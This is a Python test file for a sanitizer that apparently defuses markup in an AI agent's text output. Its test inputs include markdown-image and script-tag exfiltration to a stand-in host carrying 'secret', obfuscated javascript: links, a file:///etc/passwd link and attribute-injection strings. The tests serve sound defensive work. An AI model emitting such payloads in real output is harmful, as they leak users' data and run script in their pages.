"""Markup that would make a page load something is made inert; text, links and types of a language stay."""

import pytest

from ras_agent.text.markup import inert_markup, markup_start, web_address


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        (
            "see ![x](https://e.example/?q=secret)",
            "see [x](https://e.example/?q=secret)",
        ),
        ("!![x](https://e.example/?q=secret)", "[x](https://e.example/?q=secret)"),
        ("![a [b] c](https://e.example/)", "[a [b] c](https://e.example/)"),
        ("![x][1]\n\n[1]: https://e.example/", "[x][1]\n\n[1]: https://e.example/"),
        ("[x]: https://e.example/\n\n![x]", "[x]: https://e.example/\n\n[x]"),
        ("<img src=https://e.example/>", "‹img src=https://e.example/>"),
        ("<IMG/src=//e.example>", "‹IMG/src=//e.example>"),
        (
            "<x<y style='background:url(//e.example)'>",
            "‹x‹y style='background:url(//e.example)'>",
        ),
        (
            f"<{'x' * 50} style='background:url(//e.example)'>",
            f"‹{'x' * 50} style='background:url(//e.example)'>",
        ),
        (
            "<style>@import '//e.example'</style>",
            "‹style>@import '//e.example'‹/style>",
        ),
        (
            "<script>fetch('//e.example')</script>",
            "‹script>fetch('//e.example')‹/script>",
        ),
        (
            "<https:// style='background:url(//e.example)'>",
            "‹https:// style='background:url(//e.example)'>",
        ),
    ],
)
def test_what_a_page_would_load_is_inert(text: str, inert: str) -> None:
    assert inert_markup(text) == inert
    assert inert_markup(inert) == inert


@pytest.mark.parametrize(
    "text",
    [
        "Bell was born in Edinburgh [1][2].",
        "see [the map](https://e.example/map) and <https://e.example/map>",
        "let v = vec![1, 2, 3]; List<String> and a < b, 1<2, <3",
        "He won! It was late.",
        "<b>bold</b>",
    ],
)
def test_other_text_stays(text: str) -> None:
    assert inert_markup(text) == text


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "<&#106;avascript:alert(1)>",
        "<\x01java\tscript:alert(1)>",
        "\x01javascript:alert(1)",
        "java&Tab;script:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "javascript\\:alert(1)",
        "data:text/html,<b>x",
        "vbscript:x",
        "file:///etc/passwd",
        "search-ms:query=x",
    ],
)
def test_a_link_that_is_none_to_a_page_is_no_link(address: str) -> None:
    assert inert_markup(f"see [the map]({address})").startswith("see [the map›(")
    assert inert_markup(f"[the map]\n\n[the map]: {address}").startswith(
        "[the map]\n\n[the map›: "
    )


def test_an_address_of_a_script_between_brackets_is_no_link() -> None:
    assert inert_markup("[x](<javascript:alert(1)>)") == "[x](‹javascript:alert(1)>)"
    assert (
        inert_markup("<javascript:alert(1)> <https://e.example/map>")
        == "‹javascript:alert(1)> <https://e.example/map>"
    )


@pytest.mark.parametrize(
    "text",
    [
        "[write](mailto:a@e.example) or [call](tel:+441)",
        "[1]: Note: it is long",
        "[the map](maps/leith.md#top) and dict[str](x)",
        "[the map](https://e.example/a?b=c:d)",
    ],
)
def test_other_links_stay(text: str) -> None:
    assert inert_markup(text) == text


@pytest.mark.parametrize(
    ("text", "start"),
    [
        ("He won! It", 10),
        ("He won!", 6),
        ("a ![x", 2),
        ("a <im", 2),
        ("1 < 2", 5),
        ("as [1] says", 11),
        ("as [1]", 5),
        ("[m](java", 2),
        ("[m](https://e", 13),
    ],
)
def test_a_text_is_complete_up_to_where_markup_may_begin(text: str, start: int) -> None:
    assert markup_start(text) == start


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("https://e.example/a?b=c#d", "https://e.example/a?b=c#d"),
        ('http://e" onmouseover=alert(1)', ""),
        (
            'http://e.example/" onmouseover=alert(1)',
            "http://e.example/%22%20onmouseover=alert%281%29",
        ),
        (
            "https://e.example/) ![u](https://u.example/u.png",
            "https://e.example/%29%20%21%5Bu%5D%28https://u.example/u.png",
        ),
        ("https://e.example/<b>'`\n", "https://e.example/%3Cb%3E%27%60"),
        ("https://e.example/a%20b", "https://e.example/a%20b"),
        ("javascript:alert(1)", ""),
        ("//e.example/a", ""),
        ("https://[", ""),
        ("a sentence", ""),
    ],
)
def test_an_address_of_a_page_ends_no_quotation_link_or_tag(
    text: str, address: str
) -> None:
    assert web_address(text) == address


@pytest.mark.parametrize(
    "address",
    [
        "javascript:(alert)(1)",
        "javascript:[alert(1)]",
        "javascript&colon;(alert)(1)",
        "\n> javascript:alert(1)",
    ],
)
def test_a_link_that_runs_something_has_a_look_alike_whatever_follows_its_scheme(
    address: str,
) -> None:
    assert inert_markup(f"[x]({address})") == f"[x›({address})"
